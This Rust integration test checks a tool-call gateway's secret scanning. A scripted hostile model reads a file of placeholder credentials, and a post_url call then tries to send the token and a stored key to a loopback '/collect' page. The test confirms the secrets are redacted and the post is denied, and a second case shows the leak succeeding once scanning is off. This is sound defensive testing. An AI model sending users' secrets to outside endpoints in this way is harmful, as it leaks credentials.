//! Secrets kept out of calls and results (issue 30, part 3), through the real `toolgate` binary:
//! a hostile scripted model reads a file holding a canary token and a private key with the
//! naive server, then tries to post the token to a web page it is allowed to post to.
//!
//! - the file's secrets reach the model removed, a marker naming what each looked like, the
//!   value of the server's own `${secret:NOTES_KEY}` (in no shape a rule knows) included;
//! - the post is asked despite the always-allow rule, and with nobody to ask it is refused,
//!   the finding in the audit entry's reason; the page receives nothing;
//! - with the server's `scanSecrets` off, the same post goes through (the switch works).

use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::{json, Value};
use toolgate_history::{AuditFilter, History};
use toolgate_policy::{Rule, Scope};
use toolgate_settings::{ProviderKind, ProviderSettings, Settings};
use toolgate_tests::{
    fault_server, fixtures::anthropic, temp_dir, web_page, Scripted, ScriptedProvider,
};

const CANARY: &str = "ghp_C4nAryT0kenN0tReal0123456789abcdefAB";
/// A value of Toolgate's own (the server's `${secret:NOTES_KEY}`), in no shape a rule knows.
const KNOWN: &str = "plain-looking-value-42";
const PRIVATE_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----";

fn settings(provider: &ScriptedProvider, scan: Option<bool>, files: &Path) -> Settings {
    let mut server = fault_server("web", "naive");
    // In its sandbox: the page on this computer reachable, the folder with the file readable.
    server.sandbox = Some(toolgate_settings::SandboxSettings {
        network: toolgate_settings::NetworkAccess::Loopback,
        read: vec![files.to_path_buf()],
        ..Default::default()
    });
    server.trust.scan_secrets = scan;
    if let toolgate_settings::Transport::Stdio { env, .. } = &mut server.transport {
        env.insert("NOTES_KEY".into(), "${secret:NOTES_KEY}".into());
    }
    let mut settings = Settings::first_run(server);
    settings.provider = ProviderSettings {
        kind: ProviderKind::Anthropic,
        base_url: provider.anthropic_base_url(),
        model: "claude-test".into(),
    };
    settings
}

fn allow(settings: &mut Settings, tool: &str) {
    let call = toolgate_policy::ToolCall {
        server_id: "web".into(),
        tool: tool.into(),
        arguments: json!({}),
        annotations: Default::default(),
        server_fingerprint: String::new(),
        tool_fingerprint: String::new(),
    };
    let mut rule = Rule::allow_tool(format!("allow-{tool}"), &call, Scope::Always, 0);
    rule.bound_to = None;
    settings.policy.rules.push(rule);
}

/// `toolgate secrets set NOTES_KEY`, typed at its prompt.
fn set_known(dir: &Path) {
    use std::io::Write;
    let mut set = Command::new(env!("CARGO_BIN_EXE_toolgate"))
        .arg("--data-dir")
        .arg(dir)
        .args(["secrets", "set", "NOTES_KEY"])
        .stdin(Stdio::piped())
        .spawn()
        .expect("toolgate runs");
    set.stdin
        .take()
        .expect("stdin")
        .write_all(format!("{KNOWN}\n").as_bytes())
        .expect("typed");
    assert!(set.wait().expect("secrets set").success());
}

fn run(dir: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_toolgate"))
        .arg("--data-dir")
        .arg(dir)
        .args(["run", "Back up my token", "--json"])
        .env("ANTHROPIC_API_KEY", "sk-ant-scan")
        .stdin(Stdio::null())
        .output()
        .expect("toolgate runs")
}

fn script(file: &Path, page: u16) -> Vec<Scripted> {
    vec![
        Scripted::ok(anthropic::message(
            vec![anthropic::tool_use_block(
                "t1",
                "read_file",
                json!({"path": file}),
            )],
            "tool_use",
        )),
        Scripted::ok(anthropic::message(
            vec![anthropic::tool_use_block(
                "t2",
                "post_url",
                json!({"url": format!("http://127.0.0.1:{page}/collect"), "body": format!("token={CANARY} key={KNOWN}")}),
            )],
            "tool_use",
        )),
        Scripted::ok(anthropic::text("Done.")),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_canary_token_is_neither_shown_to_the_model_nor_posted_without_a_person() {
    let dir = temp_dir("secrets-scan");
    let file = dir.join("notes.txt");
    std::fs::write(
        &file,
        format!("my token: {CANARY}\n{PRIVATE_KEY}\nnotes key: {KNOWN}\nbuy milk\n"),
    )
    .expect("file");
    let (page, posted) = web_page("<p>ok</p>".into()).await;
    let provider = ScriptedProvider::start(script(&file, page)).await;
    let mut s = settings(&provider, None, &dir);
    allow(&mut s, "read_file");
    allow(&mut s, "post_url");
    toolgate_settings::file::save(&dir.join("settings.json"), &s).expect("settings");
    set_known(&dir);

    let out = run(&dir);
    let stdout = String::from_utf8_lossy(&out.stdout);
    eprintln!("{stdout}\n{}", String::from_utf8_lossy(&out.stderr));
    // The model's second request carries the file as read, its secrets removed.
    let received = provider.received();
    let second: &Value = &received[1].body;
    let sent = second.to_string();
    assert!(
        !sent.contains(CANARY),
        "the token reached the model: {sent}"
    );
    assert!(
        !sent.contains("b3BlbnNzaC1rZXkt"),
        "the key reached the model"
    );
    assert!(sent.contains("[secret removed:"), "{sent}");
    assert!(
        !sent.contains(KNOWN),
        "Toolgate's own value reached the model: {sent}"
    );
    assert!(
        sent.contains("a secret Toolgate keeps (NOTES_KEY)"),
        "{sent}"
    );
    assert!(sent.contains("buy milk"), "the rest of the file is there");
    // The post was asked (nobody could answer) and never left.
    assert!(
        posted.lock().unwrap().is_empty(),
        "posted: {:?}",
        posted.lock().unwrap()
    );
    let history = History::open(&dir.join("history.sqlite3")).expect("history");
    let rows = history.audit(&AuditFilter::default()).expect("audit");
    let post = rows
        .iter()
        .find(|r| r.entry.tool == "post_url")
        .expect("the post is audited");
    assert_eq!(post.entry.decision.as_str(), "denied", "{post:?}");
    let reason = post.entry.reason.clone().unwrap_or_default();
    assert!(
        reason.contains("looks like a secret") && reason.contains("/body"),
        "{reason}"
    );
    assert!(
        !reason.contains(CANARY),
        "the reason names the finding, not the value: {reason}"
    );
    drop(history);

    // The same with the server's scanning off: the allow rule decides, and the post leaves.
    let off = temp_dir("secrets-scan-off");
    let provider = ScriptedProvider::start(script(&file, page)).await;
    let mut s = settings(&provider, Some(false), &dir);
    allow(&mut s, "read_file");
    allow(&mut s, "post_url");
    toolgate_settings::file::save(&off.join("settings.json"), &s).expect("settings");
    set_known(&off);
    let out = run(&off);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(provider.received()[1].body.to_string().contains(CANARY));
    assert_eq!(posted.lock().unwrap().len(), 1, "the post left");
}
